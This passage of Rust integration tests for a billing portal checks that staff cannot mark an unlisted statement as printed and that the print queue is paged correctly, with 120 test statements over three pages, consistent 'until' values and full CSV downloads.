    assert!(r.location().unwrap_or_default().ends_with("?posted=print-queue"), "{:?}", r.location());
    let carols = statements_of(&portal, &carol_account).await.pop().unwrap();
    assert!(!listed.iter().any(|i| i.0 == carols), "not listed");

    let r = billing.post_form("/api/staff/billing/printed", &[("until", &until.to_string())]).await;
    let unlisted_marked = count_with(&portal, "SELECT COUNT(*) FROM statements WHERE id = $1 AND printed_at IS NOT NULL", &carols).await;
    assert_eq!(
        (r.location(), unlisted_marked),
        (Some("/staff/billing/print-queue?printed=2"), 0),
        "Carol's statement, never listed (queue place {} > until {until}), was marked printed",
        text(&portal, "SELECT CAST(queue_position AS TEXT) FROM statements WHERE id = $1", &carols).await
    );
    portal.stop().await;
}

/// Issue 16: the print queue is paged (50 a page) so that a long queue does not make every view
/// read and render all of it. Every waiting statement is on exactly one page, oldest first; each
/// page tells the whole queue's length and covers the whole queue with its downloads and mark
/// (`until`, the same on every page); a page past the last (a batch was just marked printed)
/// shows the first.
async fn the_print_queue_is_paged_and_every_statement_is_on_one_page(backend: Backend) {
    let portal = TestPortal::start(backend).await;
    let (dora_account, _) = account_of(&portal, DORA).await;
    let dora_statement = statements_of(&portal, &dora_account).await.pop().unwrap();
    let pool = &portal.state.db.pool;
    // 119 more paper statements of Dora's account after her one: 120 waiting, 3 pages.
    let (posted_at, place): (i64, i64) =
        sqlx::query_as("SELECT posted_at, queue_position FROM statements WHERE id = $1").bind(&dora_statement).fetch_one(pool).await.unwrap();
    let mut expected = vec![dora_statement.clone()];
    for i in 1..120i64 {
        let id = format!("{:032x}", 0x5eed_0000 + i);
        let date = format!("2095-{:02}-{:02}", 1 + (i - 1) / 28, 1 + (i - 1) % 28);
        sqlx::query(
            "INSERT INTO statements (id, account_id, statement_date, period_start, period_end, due_date, previous_balance, charges, payments, \
               adjustments, amount_due, delivery, posted_at, queue_position) \
             VALUES ($1, $2, $3, $3, $3, $3, 0, $4, 0, 0, $4, 'paper', $5, $6)",
        )
        .bind(&id)
        .bind(&dora_account)
        .bind(&date)
        .bind(100 * i)
        .bind(posted_at + i)
        .bind(place + i)
        .execute(pool)
        .await
        .unwrap();
        expected.push(id);
    }
    let billing = signed_in(&portal, "billing", "staff").await;
    let page = |n: u32| {
        let billing = &billing;
        async move {
            let r = billing.call_form("/api/staff/billing/print-queue", &[("page", &n.to_string())]).await;
            assert_eq!(r.status, 200, "{}", r.body);
            serde_json::from_str::<serde_json::Value>(&r.body).unwrap()
        }
    };
    let mut listed = Vec::new();
    let mut untils = Vec::new();
    for (n, len) in [(1, 50), (2, 50), (3, 20)] {
        let p = page(n).await;
        let items = p["items"].as_array().unwrap();
        assert_eq!(items.len(), len, "page {n}");
        assert_eq!((p["waiting"].as_i64(), p["page"].as_u64(), p["pages"].as_u64()), (Some(120), Some(u64::from(n)), Some(3)), "page {n}");
        untils.push(p["until"].as_i64().unwrap());
        listed.extend(items.iter().map(|i| i["statement_id"].as_str().unwrap().to_string()));
    }
    assert_eq!(listed, expected, "every statement once, oldest first");
    assert_eq!(untils, [place + 119; 3], "every page covers the whole queue");
    let past = page(9).await;
    assert_eq!((past["page"].as_u64(), past["items"][0]["statement_id"].as_str()), (Some(1), Some(dora_statement.as_str())), "past the last: the first");
    // The page as a person reads it: where they are, and the whole queue's length.
    let html = billing.get("/staff/billing/print-queue?page=2").await;
    assert!(html.body.contains("120 statements to print. Showing 51 to 100 (page 2 of 3)."), "{}", html.body);
    assert!(html.body.contains(&expected[50]) && !html.body.contains(&expected[49]) && !html.body.contains(&expected[100]));
    // The downloads the page offers cover all 120, not the page.
    let csv = billing.get(&format!("/staff/billing/print-queue.csv?until={}", untils[1])).await;
    assert_eq!(csv_statement_ids(&csv.body), expected);
    portal.stop().await;
}
